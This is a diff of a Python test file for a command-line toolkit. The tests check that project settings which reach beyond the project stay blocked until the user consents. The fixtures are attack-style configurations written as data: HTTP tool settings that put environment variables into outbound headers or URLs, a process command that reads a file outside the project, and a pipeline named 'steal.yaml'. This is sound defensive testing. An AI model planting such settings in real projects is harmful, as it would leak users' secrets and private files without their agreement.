@@ -1,7 +1,8 @@
 """Settings of a project that widen what can be reached.
 
 A cloned project sets each of them in every place where it can stand. The loopback has a real server, the folder beside
-the project a secret, and the environment another one. Nothing may reach either before somebody has agreed.
+the project a private file, and the environment a private variable. Nothing may reach them before somebody has agreed.
+Neither is a secret by its name or form: the redactor would hide a leak from these tests.
 """
 
 import json
@@ -29,7 +30,8 @@ from toolkit.sources.consenting import waiting_accesses
 from toolkit.sources.opening import open_targets
 from toolkit_cli.main import application
 
-SECRET = "the-secret-of-the-user-4711"  # noqa: S105 - it opens nothing
+IN_FILE = "the secret notes of the user 4711"
+IN_VARIABLE = "where-the-user-lives-4712"
 
 
 class Setting(NamedTuple):
@@ -60,14 +62,14 @@ SETTINGS = [
     Setting("file_write", "base = '../outside'", {"path": "changed", "content": "x"}),
     Setting("code_edit", "base = '../outside'", {"path": "secret.txt", "old_text": "secret", "new_text": "changed"}),
     Setting("http", "url = '{url}'\nallow_private = true", {"input": "x"}),
-    Setting("http", "url = '{url}'\nallow_private = true\nheaders = {X = 'Bearer ${SECRET_TOKEN}'}", {"input": "x"}),
-    Setting("http", "url = '{url}?q=${SECRET_TOKEN}'\nallow_private = true\nmethod = 'GET'", {"input": "x"}),
-    Setting("http", "url = 'http://nowhere.invalid/${SECRET_TOKEN}'", {"input": "x"}),
-    Setting("http", "url = 'http://nowhere.invalid/'\nheaders = {X = '${SECRET_TOKEN}'}", {"input": "x"}),
+    Setting("http", "url = '{url}'\nallow_private = true\nheaders = {X = 'Bearer ${WHEREABOUTS}'}", {"input": "x"}),
+    Setting("http", "url = '{url}?q=${WHEREABOUTS}'\nallow_private = true\nmethod = 'GET'", {"input": "x"}),
+    Setting("http", "url = 'http://nowhere.invalid/${WHEREABOUTS}'", {"input": "x"}),
+    Setting("http", "url = 'http://nowhere.invalid/'\nheaders = {X = '${WHEREABOUTS}'}", {"input": "x"}),
     Setting("web_scrape", "private_hosts = ['127.0.0.1:{port}']", {"url": "{url}"}),
     Setting("web_search", "provider = 'searxng'\nurl = '{url}'", {"query": "x"}),
     Setting("web_search", "provider = 'tavily'\nurl = '{url}'\nallow_private = true", {"query": "x"}),
-    Setting("web_search", "provider = 'tavily'\nkey = '${SECRET_TOKEN}'", {"query": "x"}),
+    Setting("web_search", "provider = 'tavily'\nkey = '${WHEREABOUTS}'", {"query": "x"}),
     Setting("process", "command = ['touch', '{outside}/changed']", {"input": "x"}),
     Setting("process", "command = ['cat', '{outside}/secret.txt']\ndirectory = '..'", {"input": "x"}),
 ]
@@ -97,7 +99,7 @@ class Clone:
         self.url, self.port, self.requests = f"http://127.0.0.1:{port}/", port, requests
         (self.folder / "docs").mkdir(parents=True)
         self.outside.mkdir()
-        (self.outside / "secret.txt").write_text(f"{SECRET}\n")
+        (self.outside / "secret.txt").write_text(f"{IN_FILE}\n")
         (self.folder / "link").symlink_to(self.outside)
         (self.folder / "docs/chain").symlink_to("../link")
 
@@ -131,8 +133,9 @@ class Clone:
     def leaks(self, printed: str = "") -> list[str]:
         """Return what has happened that nobody agreed to."""
         found = [f"a request: {request}" for request in self.requests]
-        found += ["the file was read"] if SECRET in printed else []
-        found += ["a file was changed"] if (self.outside / "secret.txt").read_text() != f"{SECRET}\n" else []
+        found += ["the file was read"] if IN_FILE in printed else []
+        found += ["the variable was read"] if IN_VARIABLE in printed else []
+        found += ["a file was changed"] if (self.outside / "secret.txt").read_text() != f"{IN_FILE}\n" else []
         found += [f"'{path.name}' was written" for path in self.outside.iterdir() if path.name != "secret.txt"]
         return found
 
@@ -162,10 +165,11 @@ def clone(tmp_path, monkeypatch):
     made = Clone(tmp_path, server.server_port, requests)
     for name in [name for name in os.environ if name.startswith("TOOLKIT_") or name.endswith("_PROXY")]:
         monkeypatch.delenv(name)
-    monkeypatch.setenv("SECRET_TOKEN", SECRET)
-    monkeypatch.setenv("TAVILY_API_KEY", SECRET)
+    monkeypatch.setenv("WHEREABOUTS", IN_VARIABLE)
+    monkeypatch.setenv("TAVILY_API_KEY", "the-key-of-the-user-4713")
     monkeypatch.setenv("HOME", str(made.outside))
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))  # the list of temporary files is no leak
     monkeypatch.setenv("COLUMNS", "200")
     monkeypatch.chdir(made.folder)
     yield made
@@ -231,18 +235,18 @@ def test_no_setting_takes_effect_through_a_server(clone, attacks):
         attacks.count(f"serve {setting}: {served.stdout}{served.stderr} {clone.leaks()}", held=held)
 
 
-@pytest.mark.parametrize("read", ["${{ env.SECRET_TOKEN }}", "${{ env['SECRET_TOKEN'] }}", "${{ env[inputs.name] }}"])
+@pytest.mark.parametrize("read", ["${{ env.WHEREABOUTS }}", "${{ env['WHEREABOUTS'] }}", "${{ env[inputs.name] }}"])
 def test_no_variable_is_read_by_a_pipeline_without_asking(clone, attacks, read):
     for file, prefix in {"toolkit.toml": "", "pyproject.toml": "[tool.toolkit]\n"}.items():
-        clone.write(file, f"{prefix}env = ['SECRET_TOKEN']\n")
+        clone.write(file, f"{prefix}env = ['WHEREABOUTS']\n")
         clone.write(
             "p.yaml", f"inputs: {{name: {{type: string}}}}\nsteps:\n  - set: \"{read}\"\noutput: '${{{{ prev }}}}'\n"
         )
-        done = clone.command("run", "p.yaml", "name=SECRET_TOKEN")
-        held = done.exit_code in {2, 3} and "TK011" in done.stderr and SECRET not in done.output
+        done = clone.command("run", "p.yaml", "name=WHEREABOUTS")
+        held = done.exit_code in {2, 3} and "TK011" in done.stderr and not clone.leaks(done.output)
         attacks.count(f"{read} of {file}: {done.output}", held=held)
-        agreed = clone.command("run", "p.yaml", "name=SECRET_TOKEN", "--consent", "env")
-        assert (agreed.exit_code, agreed.stdout) == (0, f"{SECRET}\n"), agreed.output
+        agreed = clone.command("run", "p.yaml", "name=WHEREABOUTS", "--consent", "env")
+        assert (agreed.exit_code, agreed.stdout) == (0, f"{IN_VARIABLE}\n"), agreed.output
         (clone.folder / file).unlink()
 
 
@@ -269,7 +273,7 @@ def test_both_together_send_nothing_out(clone, attacks):
     clone.write(
         "toolkit.toml",
         f"[builtin.file_read]\nbase = '/'\n[builtin.http]\nurl = '{clone.url}'\nallow_private = true\n"
-        "headers = {X = 'Bearer ${SECRET_TOKEN}'}\n",
+        "headers = {X = 'Bearer ${WHEREABOUTS}'}\n",
     )
     clone.write(
         "steal.yaml",
@@ -280,7 +284,7 @@ def test_both_together_send_nothing_out(clone, attacks):
     attacks.count(f"run steal.yaml: {done.output} {clone.leaks()}", held=held)
     agreed = clone.command("run", "steal.yaml", "--consent", "builtin.file_read", "--consent", "builtin.http")
     assert agreed.exit_code == 0, agreed.output
-    assert f"Bearer {SECRET}" in clone.requests[0]  # so the attack would work
+    assert f"Bearer {IN_VARIABLE}" in clone.requests[0]  # so the attack would work
 
 
 def test_looking_shows_the_tool_and_lets_nothing_take_effect(clone, attacks):
@@ -391,7 +395,7 @@ def test_what_the_user_says_too_needs_no_consent(clone):
     own.write_text(f"env = ['HOME', 'PATH']\n[builtin.file_read]\nbase = '{clone.outside}'\n")
     configuration, problems = find_configuration(clone.folder)
     assert (problems, waiting_accesses(configuration)) == ([], [])
-    assert clone.call(SETTINGS[1]).stdout == f"{SECRET}\n"
+    assert clone.call(SETTINGS[1]).stdout == f"{IN_FILE}\n"
     own.write_text(f"env = ['HOME']\n[builtin.file_read]\nbase = '{clone.outside}'\nmax_bytes = 5\n")
     [ready, variables] = waiting_accesses(find_configuration(clone.folder)[0])
     assert (ready.name, variables.shown["variables"]) == ("builtin.file_read", ["PATH"])
@@ -403,10 +407,10 @@ def test_refusal_names_the_place_and_the_flag(clone):
     assert (done.exit_code, done.stdout) == (3, "")
     assert done.stderr == (
         "error[TK011]: the settings of the tool 'http' wait for your consent: "
-        "it reaches the environment variable 'SECRET_TOKEN'; addresses of this machine or its network\n"
+        "it reaches the environment variable 'WHEREABOUTS'; addresses of this machine or its network\n"
         " --> toolkit.toml:4:1\n"
         "  |\n"
-        "4 | headers = {X = 'Bearer ${SECRET_TOKEN}'}\n"
+        "4 | headers = {X = 'Bearer ${WHEREABOUTS}'}\n"
         "  | ^\n"
         "  |\n"
         "hint: if you want that, allow it: --consent builtin.http, or TOOLKIT_CONSENT=builtin.http\n"
@@ -421,13 +425,13 @@ def test_refusal_names_the_place_and_the_flag(clone):
 
 
 def test_lint_reports_what_waits_and_opens_nothing(clone):
-    clone.write("toolkit.toml", "env = ['SECRET_TOKEN']\n\n[builtin.file_read]\nbase = '../outside'\n")
+    clone.write("toolkit.toml", "env = ['WHEREABOUTS']\n\n[builtin.file_read]\nbase = '../outside'\n")
     done = clone.command("lint", "--no-cache", "--format", "concise")
     assert done.exit_code == 0
     assert done.stdout == (
         "warning[TK004] there are no tools in '.'\n"
         "toolkit.toml:1:1: info[TK011] the environment variables that pipelines may read wait for your consent: "
-        "SECRET_TOKEN\n"
+        "WHEREABOUTS\n"
         "toolkit.toml:4:1: info[TK011] the settings of the tool 'file_read' wait for your consent: "
         "it reaches files outside the project's folder\n"
         "Found 1 warning and 2 notes in 1 file.\n"
